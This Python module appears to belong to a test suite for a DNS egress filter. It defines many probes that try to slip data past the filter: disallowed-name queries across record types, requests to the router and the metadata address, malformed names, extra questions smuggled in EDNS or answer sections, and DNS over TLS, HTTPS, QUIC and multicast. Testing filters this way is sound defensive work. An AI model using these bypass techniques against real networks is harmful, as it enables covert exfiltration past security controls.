"""Names that carry something out."""

import socket
import struct

from attempts.catalogue import Bar, Place, attempt
from attempts.connection import say
from attempts.dnswire import ask, dns_query, labels
from attempts.hello import client_hello
from attempts.wire import UDP, family_of, ip, send, tell, udp

_TYPES = {
    "A": 1,
    "AAAA": 28,
    "TXT": 16,
    "MX": 15,
    "NULL": 10,
    "CNAME": 5,
    "SOA": 6,
    "SRV": 33,
    "HTTPS": 65,
    "PTR": 12,
    "DS": 43,
    "ANY": 255,
    "AXFR": 252,
    "IXFR": 251,
    "65280": 65280,
}


def _elsewhere(place: Place, query: bytes, *, over_tcp: bool = False) -> None:
    ask(place.elsewhere, query, over_tcp=over_tcp, patience=0.2)


@attempt("DNS", "a name that is not allowed, type {}", Bar.ASKED, over=_TYPES.items())
def _(place: Place, mark: str, kind: tuple[str, int]) -> None:
    _elsewhere(place, dns_query(labels(f"payload.{mark}.example"), kind[1]))


@attempt("DNS", "a name that is not allowed, by TCP", Bar.ASKED)
def _(place: Place, mark: str) -> None:
    _elsewhere(place, dns_query(labels(f"payload.{mark}.example")), over_tcp=True)


@attempt("DNS", "a name that is not allowed, of class CHAOS", Bar.ASKED)
def _(place: Place, mark: str) -> None:
    query = dns_query(labels(f"payload.{mark}.example"), 16)
    _elsewhere(place, query[:-2] + b"\0\3")


@attempt(
    "DNS",
    "a name that is not allowed, at {}",
    Bar.ASKED,
    over=("the router", "the node", "an allowed name's address", "a listed address", "metadata"),
)
def _(place: Place, mark: str, where: str) -> None:
    server = {
        "the router": place.router,
        "the node": place.node,
        "an allowed name's address": place.allowed_at,
        "a listed address": place.listed,
        "metadata": "169.254.169.254",
    }[where]
    query = dns_query(labels(f"payload.{mark}.example"))
    # By hand: the box's own route may not lead there.
    if where == "metadata":
        tell(server, 53, query)
        return
    send(place, ip(place.own, server, UDP, udp(place.own, server, 53, query, source_port=4053)))


_ODD = {
    "in odd case": lambda mark, _: labels(f"PayLoad.{mark.upper()}.Example"),
    "with a NUL in it": lambda mark, good: _label(mark.encode() + b"\0x") + good,
    "with a dot inside a label": lambda mark, good: _label(mark.encode() + b".x") + good,
    "behind an allowed name": lambda mark, good: good[:-1] + _label(mark.encode()) + b"\0",
    "below an allowed name that is no wildcard": lambda mark, good: _label(mark.encode()) + good,
    "whose end is a pointer to itself": lambda mark, _: _label(mark.encode()) + b"\xc0\x0c",
    "of 255 octets": lambda mark, _: (
        _label(b"x" * 60) * 3 + _label(b"x" * 40) + _label(mark.encode()) + b"\x03net\0"
    ),
    "with a NUL before the end": lambda mark, good: (
        good[:-1] + _label(b"\0" + mark.encode()) + b"\0"
    ),
    "of one label": lambda mark, _: _label(mark.encode()) + b"\0",
}


def _label(text: bytes) -> bytes:
    return bytes((len(text),)) + text


@attempt("DNS", "a name {}", Bar.ASKED, over=_ODD.items())
def _(place: Place, mark: str, odd: "tuple[str, object]") -> None:
    make = odd[1]
    assert callable(make)
    _elsewhere(place, dns_query(make(mark, labels(place.name))))


def _two_questions(good: bytes, bad: bytes) -> bytes:
    return good[:4] + b"\0\2" + good[6:] + bad


_CARRIED = {
    "a second question": _two_questions,
    "a second question that is not counted": lambda good, bad: good + bad,
    "an additional record": lambda good, bad: good[:10] + b"\0\1" + good[12:] + bad + bytes(6),
    "an EDNS option": lambda good, bad: (
        good[:10]
        + b"\0\1"
        + good[12:]
        + struct.pack(">BHHIHHH", 0, 41, 1232, 0, 4 + len(bad), 65001, len(bad))
        + bad
    ),
    "an answer section": lambda good, bad: good[:6] + b"\0\1" + good[8:] + bad + bytes(6),
    "an update": lambda good, bad: good[:2] + b"\x28\0" + good[4:] + bad,
    "a message that says it is an answer": lambda good, bad: good[:2] + b"\x85\0" + good[4:] + bad,
}


@attempt("DNS", "an allowed question, with {}", Bar.ASKED, over=_CARRIED.items())
def _(place: Place, mark: str, how: "tuple[str, object]") -> None:
    make = how[1]
    assert callable(make)
    bad = dns_query(labels(f"x.{mark}.example"))[12:]
    _elsewhere(place, make(dns_query(labels(place.name)), bad))


@attempt("DNS", "bytes to port 53 that are no DNS, by {}", Bar.ALWAYS, over=("UDP", "TCP"))
def _(place: Place, mark: str, protocol: str) -> None:
    for target in (place.elsewhere, place.allowed_at, place.listed):
        if protocol == "UDP":
            tell(target, 53, mark.encode())
        else:
            say(target, 53, mark.encode())


@attempt("DNS", "over TLS, port {}", Bar.UNLISTED, over=(853, 443, 8443))
def _(place: Place, mark: str, port: int) -> None:
    say(place.elsewhere, port, client_hello(f"dns.{mark}"))


@attempt("DNS", "over HTTPS, on an allowed name's address", Bar.NAMED)
def _(place: Place, mark: str) -> None:
    say(place.allowed_at, 443, client_hello(f"doh.{mark}", alpn=("h2",)))


@attempt("DNS", "over QUIC, port {}", Bar.UNLISTED, over=(853, 8853))
def _(place: Place, mark: str, port: int) -> None:
    initial = b"\xc3\0\0\0\1\x08" + bytes(8) + b"\0\0" + mark.encode()
    tell(place.elsewhere, port, initial)


@attempt("DNS", "on another port", Bar.UNLISTED)
def _(place: Place, mark: str) -> None:
    tell(place.elsewhere, 5300, dns_query(labels(f"x.{mark}.example")))


@attempt(
    "DNS",
    "{}",
    Bar.ALWAYS,
    over=(
        ("multicast DNS", "224.0.0.251", 5353),
        ("LLMNR", "224.0.0.252", 5355),
        ("NetBIOS", "", 137),
    ),
    versions=(4,),
)
@attempt(
    "DNS",
    "{}",
    Bar.ALWAYS,
    over=(("multicast DNS", "ff02::fb", 5353), ("LLMNR", "ff02::1:3", 5355)),
    versions=(6,),
)
def _(place: Place, mark: str, what: tuple[str, str, int]) -> None:
    target = what[1] or place.router
    body = udp(place.own, target, what[2], dns_query(labels(f"x.{mark}.local")))
    send(place, ip(place.own, target, UDP, body, ttl=255))


@attempt("DNS", "a name that is not allowed, by the resolver of the C library", Bar.ASKED)
def _(place: Place, mark: str) -> None:
    socket.getaddrinfo(f"payload.{mark}.example", 443, family_of(place.own))


@attempt("DNS", "an allowed name with a dot at the end, and a name behind it", Bar.ASKED)
def _(place: Place, mark: str) -> None:
    socket.getaddrinfo(f"{place.name}.{mark}.example.", 443, family_of(place.own))
